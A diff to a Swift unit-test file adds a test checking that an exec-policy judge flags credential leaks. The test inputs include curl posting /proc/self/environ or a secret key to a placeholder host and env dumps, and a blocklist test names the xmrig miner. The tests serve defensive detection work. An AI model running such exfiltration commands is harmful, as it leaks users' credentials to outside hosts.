@@ -155,6 +155,25 @@ final class ExecJudgeTests: XCTestCase {
         XCTAssertEqual(reasons(self.judge("/usr/bin/awk", ["awk", "-f", "/tmp/x.sh"])), ["interpreter_script"])
     }
 
+    func testCredentialsOutOfPlace() {
+        policy.credentialValues = [Bytes("wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY".utf8)]
+        policy.environmentDumpers = [Bytes("env".utf8)]
+        oracle.add("/usr/bin/env")
+        oracle.add("/usr/bin/curl")
+        XCTAssertEqual(reasons(judge("/usr/bin/curl", ["curl", "https://x/?k=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"])), ["credentials"])
+        XCTAssertEqual(reasons(judge("/usr/bin/env", ["env"])), ["credentials"])
+        XCTAssertEqual(reasons(judge("/usr/bin/env", ["env", "-0"])), ["credentials"])
+        XCTAssertEqual(reasons(judge("/usr/bin/curl", ["curl", "-d", "@/proc/self/environ", "https://x"])), ["credentials"])
+        XCTAssertTrue(judge("/usr/bin/env", ["env", "python3", "app.py"]).isClean)
+        XCTAssertTrue(judge("/usr/bin/env", ["env", "A=1", "sh"]).isClean)
+        XCTAssertTrue(judge("/usr/bin/curl", ["curl", "https://x/"]).isClean)
+        policy.credentials = .report
+        XCTAssertFalse(judge("/usr/bin/env", ["env"]).block)
+        policy.credentialValues = []
+        XCTAssertTrue(judge("/usr/bin/env", ["env"]).isClean, "no credentials in the environment, nothing to dump")
+        XCTAssertEqual(Bytes("a-KEY-b-KEY".utf8).replacing(Bytes("KEY".utf8), with: Bytes("x".utf8)), Bytes("a-x-b-x".utf8))
+    }
+
     func testBlocklist() {
         oracle.add("/var/task/bin/xmrig")
         policy.blockNames = [Bytes("xmrig*".utf8)]
